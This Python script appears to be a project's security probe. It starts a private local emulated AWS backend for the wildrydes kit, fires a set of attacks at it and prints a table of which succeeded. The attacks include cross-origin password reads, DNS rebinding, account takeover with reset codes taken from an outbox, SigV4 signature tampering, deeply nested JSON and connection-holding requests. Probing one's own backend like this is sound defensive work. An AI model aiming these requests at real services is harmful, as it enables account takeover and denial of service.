"""Try each attack of the doors issues against a fresh embedded backend and print the outcome.

    python benchmarks/doors_probe.py

Starts a private backend (its own kit home and port), runs ``wildrydes up``, registers a
rider, then sends what a hostile web page could send (first table), and what another user of
the same machine or a hostile local client could (second table: issue 17). Prints one line per
attack: HTTP status and whether it worked. The web page's attacks need nothing of the kit's;
the three signature rows alter a request signed with the kit home's key, as a client holding
a signed request could.

It uses only what the kit has had since before issue 17, so it runs against an older checkout
too: ``PYTHONPATH=/path/to/old/checkout python benchmarks/doors_probe.py``.
"""

from __future__ import annotations

import json
import uuid

PASSWORD = "Probe-Rider-42"  # noqa: S105 - a throwaway rider of a private backend
EVIL = "http://evil.example"


def main() -> None:
    import requests

    from wildrydes import accounts, launch
    from wildrydes.kit import current
    from wildrydes.local import process

    with process.private_backend():
        launch.up()
        kit = current()
        base = kit.backend.endpoint_url
        email = f"probe-{uuid.uuid4().hex[:8]}@example.com"
        user = email.replace("@", "-at-")
        accounts.register(kit, email, PASSWORD)
        accounts.confirm(kit, email, from_mailbox=True)
        config = f"{base}/{kit.bucket}/js/config.js"
        before = requests.get(config, timeout=10).text
        target = "AWSCognitoIdentityProviderService."

        def cognito(op, body, **headers):
            return requests.post(
                base + "/",
                data=json.dumps(body),
                timeout=10,
                headers={
                    "X-Amz-Target": target + op,
                    "Content-Type": "application/x-amz-json-1.1",
                    "Origin": EVIL,
                    **headers,
                },
            )

        rows = []
        r = requests.get(f"{base}/moto-api/data.json", headers={"Origin": EVIL}, timeout=10)
        rows.append(("read /moto-api/data.json (passwords)", r.status_code, PASSWORD in r.text))
        r = requests.post(
            f"{base}/{kit.bucket}",
            headers={"Origin": EVIL},
            timeout=10,
            files={"key": (None, "js/config.js"), "file": ("c.js", b"window._config={};")},
        )
        rows.append(
            (
                "form POST replaces js/config.js",
                r.status_code,
                requests.get(config, timeout=10).text != before,
            )
        )
        r = cognito(
            "AdminSetUserPassword",
            {
                "UserPoolId": kit.user_pool_id,
                "Username": user,
                "Password": "Taken-Over-1",
                "Permanent": True,
            },
        )
        rows.append(
            ("AdminSetUserPassword without credentials", r.status_code, r.status_code == 200)
        )
        r = requests.options(
            base + "/",
            timeout=10,
            headers={
                "Origin": EVIL,
                "Access-Control-Request-Method": "POST",
                "Access-Control-Request-Headers": "x-amz-target,content-type",
            },
        )
        rows.append(
            (
                "CORS preflight from another origin",
                r.status_code,
                "Access-Control-Allow-Origin" in r.headers,
            )
        )
        r = requests.get(f"{base}/_wildrydes/outbox", headers={"Origin": EVIL}, timeout=10)
        rows.append(
            (
                "read the outbox (codes) from another origin",
                r.status_code,
                r.status_code == 200 and "Access-Control-Allow-Origin" in r.headers,
            )
        )
        r = requests.get(
            f"{base}/_wildrydes/outbox",
            timeout=10,
            headers={"Host": f"rebind.evil.example:{base.rsplit(':', 1)[1]}"},
        )
        rows.append(
            ("DNS rebinding (Host: rebind.evil.example)", r.status_code, r.status_code == 200)
        )
        r = requests.post(
            f"{base}/_wildrydes/clock",
            data='{"advance_seconds": 1e308}',
            headers={"Content-Type": "text/plain", "Origin": EVIL},
            timeout=10,
        )
        rows.append(
            ("POST /_wildrydes/clock 1e308 (text/plain)", r.status_code, r.status_code == 200)
        )
        r = requests.post(f"{base}/moto-api/reset", headers={"Origin": EVIL}, timeout=10)
        rows.append(("POST /moto-api/reset", r.status_code, r.status_code == 200))
        _table("A hostile web page", rows)
        _table("Another user of the machine, a hostile local client", local_client_rows(kit))


def _table(title: str, rows: list[tuple[str, object, bool]]) -> None:
    print(f"\n{title}\n{'attack':<62} {'HTTP':>5}  worked")
    for name, status, worked in rows:
        print(f"{name:<62} {status!s:>5}  {'YES' if worked else 'no'}")
    print(f"{sum(w for *_, w in rows)} of {len(rows)} attacks worked")


def _raw(port: int, request: bytes, wait: float = 5.0) -> bytes | None:
    """The answer to a raw request, or None when none comes within ``wait`` seconds."""
    import socket

    with socket.create_connection(("127.0.0.1", port), timeout=wait) as s:
        s.sendall(request)
        try:
            return s.recv(65536)
        except TimeoutError:
            return None


def _status(answer: bytes | None) -> object:
    return int(answer.split(b" ", 2)[1]) if answer else "none"


def _signed(url: str, body: bytes, region: str = "us-east-1", service: str = "cognito-idp", **h):
    from botocore.auth import S3SigV4Auth, SigV4Auth
    from botocore.awsrequest import AWSRequest
    from botocore.credentials import Credentials

    from wildrydes.local import credentials

    key = credentials.load()
    request = AWSRequest(method="PUT" if service == "s3" else "POST", url=url, data=body, headers=h)
    signer = S3SigV4Auth if service == "s3" else SigV4Auth
    signer(Credentials(key.access_key_id, key.secret_access_key), service, region).add_auth(request)
    return dict(request.headers.items())


def local_client_rows(kit) -> list[tuple[str, object, bool]]:  # noqa: C901 - one row each
    """Issue 17's attacks, as another local user (no Origin, no key) or a hostile client."""
    import hashlib
    import stat

    import requests

    from wildrydes import accounts, mailbox, state
    from wildrydes.local import proxied

    base = kit.backend.endpoint_url
    port = int(base.rsplit(":", 1)[1])
    target = "AWSCognitoIdentityProviderService."
    email = f"victim-{uuid.uuid4().hex[:8]}@example.com"
    user = email.replace("@", "-at-")
    accounts.register(kit, email, PASSWORD)
    accounts.confirm(kit, email, from_mailbox=True)  # a verified email: ForgotPassword sends
    rows: list[tuple[str, object, bool]] = []

    r = requests.get(f"{base}/_wildrydes/outbox", timeout=10)
    rows.append(("read the outbox with no Origin (curl)", r.status_code, email in r.text))
    r = requests.get(f"{base}/_wildrydes/mailbox", timeout=10)
    rows.append(("read the mailbox page with no Origin", r.status_code, email in r.text))

    def public(op: str, body: dict) -> requests.Response:
        headers = {"X-Amz-Target": target + op, "Content-Type": "application/x-amz-json-1.1"}
        return requests.post(base + "/", data=json.dumps(body), headers=headers, timeout=10)

    public("ForgotPassword", {"ClientId": kit.app_client_id, "Username": user})
    r = requests.get(f"{base}/_wildrydes/outbox", timeout=10)
    codes = [m["code"] for m in (r.json() if r.ok else []) if m.get("username") == user]
    taken = False
    if codes:
        done = public(
            "ConfirmForgotPassword",
            {
                "ClientId": kit.app_client_id,
                "Username": user,
                "ConfirmationCode": codes[-1],
                "Password": "Taken-Over-1",
            },
        )
        taken = done.status_code == 200
    rows.append(("ForgotPassword, code from the outbox, new password", r.status_code, taken))

    vhost = f"{kit.bucket}.s3.localhost:{port}"
    for method, path in (("GET", "/moto-api/data.json"), ("POST", "/moto-api/reset")):
        answer = _raw(
            port,
            f"{method} {path} HTTP/1.1\r\nHost: {vhost}\r\nContent-Length: 0\r\n"
            "Connection: close\r\n\r\n".encode(),
        )
        status = _status(answer)
        rows.append((f"{method} {path} on the bucket's virtual host", status, status == 200))
    answer = _raw(
        port, f"POST / HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nContent-Length: -1\r\n\r\n".encode()
    )
    held = ("Content-Length: -1 holds a connection (no answer in 5 s)", _status(answer))
    rows.append((*held, answer is None))

    url = f"{base}/{kit.bucket}/js/config.js"
    body = b"window._config = {};"
    headers = _signed(
        url, body, service="s3", **{"X-Amz-Content-SHA256": hashlib.sha256(body).hexdigest()}
    )
    headers["x-amz-acl"] = "public-read-write"
    r = requests.put(url, data=body, headers=headers, timeout=10)
    rows.append(("an unsigned x-amz-acl added to a signed PutObject", r.status_code, r.ok))
    asked = json.dumps({"UserPoolId": kit.user_pool_id, "Username": "nobody"}).encode()
    swapped = json.dumps({"UserPoolId": kit.user_pool_id, "Username": user}).encode()
    headers = _signed(
        base + "/",
        asked,
        **{"X-Amz-Target": target + "AdminGetUser", "X-Amz-Content-SHA256": "UNSIGNED-PAYLOAD"},
        **{"Content-Type": "application/x-amz-json-1.1"},
    )
    r = requests.post(base + "/", data=swapped, headers=headers, timeout=10)
    rows.append(("UNSIGNED-PAYLOAD on Cognito, body swapped after signing", r.status_code, r.ok))
    listing = json.dumps({"UserPoolId": kit.user_pool_id}).encode()
    json_type = {"Content-Type": "application/x-amz-json-1.1"}
    headers = _signed(
        base + "/",
        listing,
        region="mars-east-1",
        **{"X-Amz-Target": target + "ListUsers"},
        **json_type,
    )
    r = requests.post(base + "/", data=listing, headers=headers, timeout=10)
    rows.append(("a signature scoped to region mars-east-1", r.status_code, r.ok))
    deep = '{"ClientId": "x", "Username": "y", "Password": "z", "ClientMetadata": '
    deep += "[" * 100_000 + "]" * 100_000 + "}"
    r = requests.post(
        base + "/", data=deep, timeout=30, headers={"X-Amz-Target": target + "SignUp", **json_type}
    )
    rows.append(("JSON nested 100,000 deep (a 500)", r.status_code, r.status_code >= 500))

    fresh = f"resend-{uuid.uuid4().hex[:8]}@example.com"
    accounts.register(kit, fresh, PASSWORD)
    fresh_user = fresh.replace("@", "-at-")
    for _ in range(100):
        last = public(
            "ResendConfirmationCode", {"ClientId": kit.app_client_id, "Username": fresh_user}
        )
    sent = sum(1 for m in mailbox.messages(kit.backend) if m["username"] == fresh_user)
    rows.append(
        (f"100 ResendConfirmationCode calls send {sent} messages", last.status_code, sent > 10)
    )

    home = state.kit_home()
    everything = [home, *home.rglob("*")]
    loose = [p for p in everything if not p.is_symlink() and stat.S_IMODE(p.stat().st_mode) & 0o077]
    rows.append((f"kit home files readable by other users ({len(loose)})", "-", bool(loose)))

    key = proxied.new_key()
    answer = _raw(
        port,
        f"GET /{kit.bucket}/index.html HTTP/1.1\r\nHost: hub.example.org\r\n"
        f"{proxied.HEADER}: {key}\r\nAuthorization: token jupyters-token\r\n"
        "Connection: close\r\n\r\n".encode(),
    )
    broken = _status(answer)
    rows.append(
        ("Jupyter's token through the proxy breaks the website (S3 400)", broken, broken == 400)
    )
    return rows


if __name__ == "__main__":
    main()
